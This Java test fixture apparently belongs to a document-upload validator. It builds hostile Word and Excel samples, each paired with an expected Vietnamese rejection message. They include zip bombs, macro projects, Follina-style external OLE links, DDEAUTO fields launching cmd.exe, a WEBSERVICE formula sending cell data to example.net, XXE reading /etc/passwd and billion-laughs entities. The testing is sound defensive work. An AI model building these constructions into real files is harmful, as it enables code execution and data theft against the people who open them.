package vn.guongsang.document;

import static vn.guongsang.document.SampleFiles.docx;
import static vn.guongsang.document.SampleFiles.entry;
import static vn.guongsang.document.SampleFiles.inserted;
import static vn.guongsang.document.SampleFiles.joined;
import static vn.guongsang.document.SampleFiles.make;
import static vn.guongsang.document.SampleFiles.text;
import static vn.guongsang.document.SampleFiles.with;
import static vn.guongsang.document.SampleFiles.xlsx;
import static vn.guongsang.document.SampleFiles.zip;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/** Word and Excel files that attack: each with its name, the file, and words of the answer. */
final class HostileOffice {
    static final byte[] OLE = Arrays.copyOf(new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1}, 4096);
    static final byte[] PROGRAM = Arrays.copyOf(text("MZ program"), 4000);
    private static final String RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String DOCUMENT = "word/document.xml";
    private static final String BODY = "</w:body>";
    private static final String RELS = "word/_rels/document.xml.rels";

    private HostileOffice() {
    }

    static Stream<Attack> all() {
        return Stream.of(containers(), macros(), embedded(), outside(), fields(), sheets(), xml()).flatMap(each -> each);
    }

    private static Stream<Attack> containers() {
        return Stream.of(
                new Attack("a part of zeros, 1000 to 1", "bom.docx", with(docx(), "word/bomb.xml", new byte[30 * 1024 * 1024]), "quá lớn"),
                new Attack("200 parts, each below the ratio's threshold of one MB", "bom.docx", parts(docx(), 250, new byte[1000 * 1024]), "quá lớn"),
                new Attack("2,100 parts", "nghìn.docx", parts(docx(), 2100, new byte[0]), "quá lớn"),
                new Attack("a bomb inside the data sheet of a chart", "bom.docx", with(docx(), "word/embeddings/a.xlsx", with(xlsx(), "xl/media/a.bin", new byte[60 * 1024 * 1024])), "quá lớn"),
                new Attack("3,000 parts inside the data sheet of a chart", "bom.docx", with(docx(), "word/embeddings/a.xlsx", parts(xlsx(), 3000, new byte[0])), "quá lớn"),
                new Attack("a list of types of 3 MB", "bom.docx", inserted(docx(), "[Content_Types].xml", "</Types>", "<!--" + "x".repeat(3 * 1024 * 1024) + "-->"), "quá lớn"),
                new Attack("a chain of containers", "lồng.docx", with(docx(), "word/embeddings/a.xlsx", with(xlsx(), "xl/embeddings/b.xlsx", xlsx())), "nhúng"),
                new Attack("a zip in a part", "lồng.docx", with(docx(), "word/a.zip", zip("a.txt", text("xin chào"))), "nhúng"),
                new Attack("a path out of the folder", "đường dẫn.docx", with(docx(), "../../etc/x.xml", text("<x/>")), "hỏng"),
                new Attack("the same part twice, in other letters", "hai lần.docx", with(docx(), "WORD/document.xml", entry(docx(), DOCUMENT)), "hỏng"),
                new Attack("cut in half", "cụt.docx", Arrays.copyOf(docx(), docx().length / 2), "hỏng"),
                new Attack("something behind the directory", "đuôi.docx", joined(docx(), text("<html><script>alert(1)</script>")), "hỏng"),
                new Attack("a comment behind the directory", "ghi chú.docx", commented(docx()), "hỏng"),
                new Attack("locked", "mật khẩu.docx", encrypted(docx()), "bỏ mật khẩu"),
                new Attack("a plain zip", "báo cáo.docx", zip("a.txt", text("xin chào")), "không phải là DOCX"),
                new Attack("a Java archive", "báo cáo.docx", zip("META-INF/MANIFEST.MF", text("Main-Class: a.B\n")), "không phải là DOCX"),
                new Attack("Excel called Word", "báo cáo.docx", xlsx(), "không phải là DOCX"),
                new Attack("old Word", "báo cáo.doc", OLE, "định dạng docx"),
                new Attack("old Word called new", "báo cáo.docx", OLE, "không phải là DOCX"));
    }

    private static Stream<Attack> macros() {
        return Stream.of(
                new Attack("a macro project", "macro.docx", with(docx(), "word/vbaProject.bin", OLE), "macro"),
                new Attack("a macro project by another name", "macro.docx", with(docx(), "word/media/image9.png", OLE), "nhúng"),
                new Attack("a relationship to a macro project by another name", "macro.docx", related(docx(), "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin", ""), "macro"),
                new Attack("the type of a macro project", "macro.docx", inserted(docx(), "[Content_Types].xml", "</Types>",
                        "<Default Extension=\"dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"), "macro"),
                new Attack("the document that allows macros", "macro.docx", replaced(docx(), "[Content_Types].xml", "openxmlformats-officedocument.wordprocessingml.document.main",
                        "ms-word.document.macroEnabled.main"), "DOCX"),
                new Attack("a macro project in the data sheet of a chart", "macro.docx", with(docx(), "word/embeddings/a.xlsx", with(xlsx(), "xl/vbaProject.bin", OLE)), "macro"),
                new Attack("ActiveX", "activex.docx", with(docx(), "word/activeX/activeX1.xml", text("<x/>")), "macro"),
                new Attack("ActiveX by another name", "activex.docx", related(docx(), RELATION + "control", "a/b.xml", ""), "macro"),
                new Attack("an add-in from the web", "add-in.docx", related(docx(), "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "a/b.xml", ""), "macro"),
                new Attack("a sheet of Excel 4 macros", "xlm.xlsx", with(xlsx(), "xl/macrosheets/sheet1.xml", text("<x/>")), "macro"),
                new Attack("a sheet of Excel 4 macros by another name", "xlm.xlsx", with(xlsx(), "xl/worksheets/sheet9.xml",
                        text("<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>")), "macro"),
                new Attack("a name that runs when opened", "xlm.xlsx", inserted(xlsx(), "xl/workbook.xml", "</workbook>",
                        "<definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Sheet1!$A$1</definedName></definedNames>"), "macro"));
    }

    private static Stream<Attack> embedded() {
        return Stream.of(
                new Attack("an OLE object", "nhúng.docx", with(docx(), "word/embeddings/oleObject1.bin", OLE), "nhúng"),
                new Attack("a program as a picture", "nhúng.docx", with(docx(), "word/media/image1.png", PROGRAM), "nhúng"),
                new Attack("a program of Linux", "nhúng.xlsx", with(xlsx(), "xl/media/a.bin", new byte[] {0x7f, 'E', 'L', 'F', 2, 1}), "nhúng"),
                new Attack("a script by its name", "nhúng.docx", with(docx(), "word/media/a.vbs", text("MsgBox 1")), "nhúng"),
                new Attack("a PDF inside", "nhúng.docx", with(docx(), "word/media/a.bin", SampleFiles.pdf()), "nhúng"),
                new Attack("a page of HTML to be taken in", "altchunk.docx", inserted(docx(), DOCUMENT, BODY, "<w:altChunk/>"), "nhúng"),
                new Attack("a relationship to HTML to be taken in", "altchunk.docx", related(docx(), RELATION + "aFChunk", "afchunk.dat", ""), "nhúng"));
    }

    private static Stream<Attack> outside() {
        return Stream.of(
                new Attack("a template from the web", "mẫu.docx", related(docx(), RELATION + "attachedTemplate", "https://example.net/x.dotm", "External"), "nơi khác"),
                new Attack("a template of a share", "mẫu.docx", related(docx(), RELATION + "attachedTemplate", "file:///\\\\10.0.0.1\\share\\x.dotm", "External"), "nơi khác"),
                new Attack("a linked picture", "ảnh.docx", related(docx(), RELATION + "image", "https://example.net/x.png", "External"), "nơi khác"),
                new Attack("a linked picture, mode in other letters", "ảnh.docx", related(docx(), RELATION + "image", "https://example.net/x.png", "EXTERNAL"), "nơi khác"),
                new Attack("an object from the web (Follina)", "ole.docx", related(docx(), RELATION + "oleObject", "https://example.net/x.html!", "External"), "nơi khác"),
                new Attack("a subdocument", "con.docx", related(docx(), RELATION + "subDocument", "https://example.net/x.docx", "External"), "nơi khác"),
                new Attack("a picture linked under the type of a hyperlink", "ảnh.docx", inserted(docx(), DOCUMENT, BODY,
                        "<a:blip xmlns:a=\"a\" xmlns:r=\"r\" r:link=\"rId9\"/>"), "nơi khác"),
                new Attack("a picture of VML with its own address", "ảnh.docx", inserted(docx(), DOCUMENT, BODY,
                        "<v:imagedata xmlns:v=\"urn:schemas-microsoft-com:vml\" src=\"\\\\10.0.0.1\\a.png\"/>"), "nơi khác"),
                new Attack("a linked object", "ole.docx", inserted(docx(), DOCUMENT, BODY, "<o:OLEObject xmlns:o=\"o\" Type=\"Link\" ProgID=\"htmlfile\"/>"), "nơi khác"),
                new Attack("a hyperlink that starts a program", "liên kết.docx", related(docx(), RELATION + "hyperlink", "ms-msdt:/id PCWDiagnostic", "External"), "liên kết"),
                new Attack("a hyperlink of script", "liên kết.docx", related(docx(), RELATION + "hyperlink", "java\tscript:alert(1)", "External"), "liên kết"));
    }

    private static Stream<Attack> fields() {
        String begin = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
        String end = "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
        return Stream.of(
                field("DDEAUTO", begin + instruction("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;") + end),
                field("DDE", begin + instruction(" dde excel x y") + end),
                new Attack("DDE in pieces", "trường.docx", inserted(docx(), DOCUMENT, BODY, paragraph(begin + instruction("D") + instruction("DEAU") + instruction("TO cmd") + end)), "DDEAUTO"),
                new Attack("DDE computed by another field", "trường.docx", inserted(docx(), DOCUMENT, BODY, paragraph(begin + begin + instruction("QUOTE 68 68 69") + end + instruction(" cmd") + end)), "hỏng"),
                field("DDEAUTO", begin + instruction("DDEAUTO cmd")),
                field("DDEAUTO", begin + instruction("IF 1 = 1 ") + begin + instruction("DDEAUTO cmd") + end + end),
                field("INCLUDETEXT", begin + instruction("INCLUDETEXT &quot;\\\\\\\\10.0.0.1\\\\x.docx&quot;") + end),
                field("INCLUDEPICTURE", begin + instruction(" INCLUDEPICTURE \"https://example.net/x.png\" \\d") + end),
                field("LINK", begin + instruction("LINK Excel.Sheet.12 x.xlsx") + end),
                new Attack("DDE in a simple field", "trường.docx", inserted(docx(), DOCUMENT, BODY, "<w:p><w:fldSimple w:instr=\" DDEAUTO cmd \"/></w:p>"), "DDEAUTO"),
                new Attack("DDE in a part by any name", "trường.docx", with(docx(), "word/whatever7.xml", text("<w:hdr xmlns:w=\"w\">" + paragraph(begin + instruction("DDEAUTO cmd") + end) + "</w:hdr>")), "DDEAUTO"),
                new Attack("DDE in UTF-16", "trường.docx", with(docx(), "word/header1.xml", ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><w:hdr xmlns:w=\"w\">"
                        + paragraph(begin + instruction("DDEAUTO cmd") + end) + "</w:hdr>").getBytes(StandardCharsets.UTF_16)), "DDEAUTO"),
                new Attack("the document in a part that is not called XML", "trường.docx", inserted(docx(), "[Content_Types].xml", "</Types>",
                        "<Override PartName=\"/word/a.vml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml\"/>"), "hỏng"));
    }

    private static Stream<Attack> sheets() {
        return Stream.of(
                new Attack("a link to another workbook", "liên kết.xlsx", with(xlsx(), "xl/externalLinks/externalLink1.xml", text("<externalLink xmlns=\"x\"><externalBook/></externalLink>")), "nơi khác"),
                new Attack("DDE", "dde.xlsx", with(xlsx(), "xl/externalLinks/externalLink1.xml", text("<externalLink xmlns=\"x\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")), "nơi khác"),
                new Attack("a data connection", "kết nối.xlsx", related(xlsx(), "xl/_rels/workbook.xml.rels", RELATION + "connections", "connections.xml", ""), "nơi khác"),
                new Attack("a query's table", "kết nối.xlsx", related(xlsx(), "xl/_rels/workbook.xml.rels", RELATION + "queryTable", "q.xml", ""), "nơi khác"),
                formula("WEBSERVICE(\"https://example.net/?\"&amp;A1)"),
                formula("_xlfn.WEBSERVICE (A1)"),
                formula("_xlfn.IMAGE(\"https://example.net/a.png\")"),
                formula("cmd|'/c calc'!A0"),
                formula("RTD(\"a.b\",,\"c\")"),
                formula("CALL(\"kernel32\",\"WinExec\")"));
    }

    private static Stream<Attack> xml() {
        String dtd = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
        String laughs = "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\">]>";
        return Stream.of(
                new Attack("an entity in relationships", "thực thể.docx", with(docx(), "word/_rels/other.xml.rels", text(dtd + "<Relationships>&x;</Relationships>")), "hỏng"),
                new Attack("an entity in the text", "thực thể.docx", with(docx(), "word/header1.xml", text(dtd + "<w:hdr xmlns:w=\"w\">&x;</w:hdr>")), "hỏng"),
                new Attack("entities that multiply", "thực thể.docx", with(docx(), "word/header1.xml", text(laughs + "<r>&c;</r>")), "hỏng"),
                new Attack("an entity in a list of types", "thực thể.docx", with(docx(), "[Content_Types].xml",
                        joined(text("<?xml version=\"1.0\"?>" + dtd), text(new String(entry(docx(), "[Content_Types].xml"), StandardCharsets.UTF_8).replaceFirst("<\\?xml[^>]*>", "")))), "không"),
                new Attack("an entity in a sheet", "thực thể.xlsx", with(xlsx(), "xl/worksheets/sheet2.xml", text(dtd + "<worksheet>&x;</worksheet>")), "hỏng"),
                new Attack("what is no XML", "hỏng.docx", with(docx(), "word/header1.xml", text("<a><b></a>")), "hỏng"),
                new Attack("200,000 tags one in the other", "sâu.docx", with(docx(), "word/header1.xml", text("<a>".repeat(200_000))), "quá lớn"),
                new Attack("a tag of 20 MB", "dài.docx", with(docx(), "word/header1.xml", text("<a b=\"" + noise(20) + "\"/>")), "hỏng"),
                new Attack("20,000 names of tags", "nhiều tên.docx", with(docx(), "word/header1.xml", text(names(20_000))), "quá lớn"));
    }

    private static Attack field(String kind, String runs) {
        return new Attack("field " + kind, "trường.docx", inserted(docx(), DOCUMENT, BODY, paragraph(runs)), "trường “" + kind + "”");
    }

    private static Attack formula(String formula) {
        return new Attack("formula " + formula, "công thức.xlsx", inserted(xlsx(), "xl/worksheets/sheet1.xml", "</sheetData>", "<row r=\"9\"><c r=\"A9\"><f>" + formula + "</f></c></row>"), "công thức");
    }

    private static String paragraph(String runs) {
        return "<w:p>" + runs + "</w:p>";
    }

    private static String instruction(String text) {
        return "<w:r><w:instrText xml:space=\"preserve\">" + text + "</w:instrText></w:r>";
    }

    private static byte[] related(byte[] container, String type, String target, String mode) {
        return related(container, RELS, type, target, mode);
    }

    private static byte[] related(byte[] container, String part, String type, String target, String mode) {
        return inserted(container, part, "</Relationships>", "<Relationship Id=\"rId99\" Type=\"" + type + "\" Target=\"" + target + "\""
                + (mode.isEmpty() ? "" : " TargetMode=\"" + mode + "\"") + "/>");
    }

    private static byte[] replaced(byte[] container, String part, String from, String to) {
        return with(container, part, text(new String(entry(container, part), StandardCharsets.UTF_8).replace(from, to)));
    }

    private static String names(int count) {
        StringBuilder xml = new StringBuilder("<r>");
        for (int i = 0; i < count; i++) {
            xml.append("<n").append(i).append("/>");
        }
        return xml.append("</r>").toString();
    }

    /** Letters that hardly pack, so that the ratio does not give them away. */
    private static String noise(int megabytes) {
        byte[] bytes = new byte[megabytes * 1024 * 1024 * 3 / 4];
        new java.util.Random(1).nextBytes(bytes);
        return java.util.Base64.getEncoder().encodeToString(bytes);
    }

    private static byte[] parts(byte[] container, int count, byte[] content) {
        return make(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out); ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(container))) {
                for (ZipEntry entry; (entry = in.getNextEntry()) != null; ) {
                    zip.putNextEntry(new ZipEntry(entry.getName()));
                    zip.write(in.readAllBytes());
                }
                for (int i = 0; i < count; i++) {
                    zip.putNextEntry(new ZipEntry("word/media/x" + i + ".bin"));
                    zip.write(content);
                }
            }
        });
    }

    private static byte[] commented(byte[] container) {
        byte[] with = joined(container, text("%PDF-1.4"));
        with[container.length - 2] = 8;
        return with;
    }

    private static byte[] encrypted(byte[] docx) {
        return make(out -> {
            try (POIFSFileSystem system = new POIFSFileSystem()) {
                Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
                encryptor.confirmPassword("mật khẩu");
                try (var stream = encryptor.getDataStream(system)) {
                    stream.write(docx);
                }
                system.writeFilesystem(out);
            }
        });
    }
}
